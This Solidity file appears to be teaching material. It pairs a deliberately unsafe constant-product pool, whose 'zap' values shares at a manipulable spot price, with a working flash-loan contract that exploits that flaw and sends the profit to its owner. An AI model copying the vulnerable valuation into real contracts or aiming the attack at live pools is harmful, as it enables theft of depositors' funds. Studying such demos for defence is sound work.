// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {DemoVault, IFlashBorrower} from "./DemoVault.sol";

/// @title A constant-product pair with a fee of 0.3 %.
/// @dev Unsafe on purpose: `zap` gives shares for one token alone and values it at the price of the moment, which
///      whoever calls it can make. Never deploy it where money is.
contract DemoPair is ERC20 {
    using SafeERC20 for IERC20;

    IERC20 public immutable token0;
    IERC20 public immutable token1;
    uint128 private _reserve0;
    uint128 private _reserve1;

    error TooLittle(uint256 expected, uint256 got);

    constructor(IERC20 one, IERC20 other) ERC20("Demo pair share", "dLP") {
        (token0, token1) = (one, other);
    }

    function add(uint256 amount0, uint256 amount1) external returns (uint256 shares) {
        (uint256 reserve0, uint256 reserve1) = getReserves();
        uint256 supply = totalSupply();
        shares = supply == 0
            ? Math.sqrt(amount0 * amount1)
            : Math.min(amount0 * supply / reserve0, amount1 * supply / reserve1);
        token0.safeTransferFrom(msg.sender, address(this), amount0);
        token1.safeTransferFrom(msg.sender, address(this), amount1);
        _set(reserve0 + amount0, reserve1 + amount1);
        _mint(msg.sender, shares);
    }

    function remove(uint256 shares) external returns (uint256 amount0, uint256 amount1) {
        (uint256 reserve0, uint256 reserve1) = getReserves();
        uint256 supply = totalSupply();
        (amount0, amount1) = (shares * reserve0 / supply, shares * reserve1 / supply);
        _burn(msg.sender, shares);
        _set(reserve0 - amount0, reserve1 - amount1);
        token0.safeTransfer(msg.sender, amount0);
        token1.safeTransfer(msg.sender, amount1);
    }

    /// @param forward token0 comes in and token1 goes out; else the reverse.
    function swap(bool forward, uint256 amountIn, uint256 leastOut) external returns (uint256 amountOut) {
        (uint256 here, uint256 there) = forward ? (_reserve0, _reserve1) : (_reserve1, _reserve0);
        uint256 counted = amountIn * 997;
        amountOut = counted * there / (here * 1000 + counted);
        require(amountOut >= leastOut, TooLittle(leastOut, amountOut));
        (here, there) = (here + amountIn, there - amountOut);
        if (forward) _set(here, there);
        else _set(there, here);
        (IERC20 tokenIn, IERC20 tokenOut) = forward ? (token0, token1) : (token1, token0);
        tokenIn.safeTransferFrom(msg.sender, address(this), amountIn);
        tokenOut.safeTransfer(msg.sender, amountOut);
    }

    /// @notice Shares for token0 alone: it counts as half of what it is worth in both.
    function zap(uint256 amount0) external returns (uint256 shares) {
        (uint256 reserve0, uint256 reserve1) = getReserves();
        shares = amount0 * totalSupply() / (2 * reserve0);
        token0.safeTransferFrom(msg.sender, address(this), amount0);
        _set(reserve0 + amount0, reserve1);
        _mint(msg.sender, shares);
    }

    function getReserves() public view returns (uint256 reserve0, uint256 reserve1) {
        return (_reserve0, _reserve1);
    }

    function _set(uint256 reserve0, uint256 reserve1) private {
        (_reserve0, _reserve1) = (uint128(reserve0), uint128(reserve1));
    }
}

/// @title Makes token0 dear with a flash loan of token1, turns it into shares at that price, and cashes them.
contract DemoPairAttack is IFlashBorrower {
    using SafeERC20 for IERC20;

    DemoPair private immutable _pair;
    DemoVault private immutable _lender;
    address private immutable _owner;

    constructor(DemoPair pair, DemoVault lender) {
        (_pair, _lender, _owner) = (pair, lender, msg.sender);
    }

    function attack(uint256 loan) external {
        _lender.flashLoan(loan);
    }

    function onFlashLoan(IERC20 token, uint256 amount) external {
        IERC20 other = _pair.token0();
        token.forceApprove(address(_pair), type(uint256).max);
        other.forceApprove(address(_pair), type(uint256).max);
        uint256 bought = _pair.swap(false, amount, 0);
        uint256 shares = _pair.zap(bought);
        (uint256 left,) = _pair.remove(shares);
        _pair.swap(true, left, 0);
        token.safeTransfer(address(_lender), amount);
        token.safeTransfer(_owner, token.balanceOf(address(this)));
    }
}
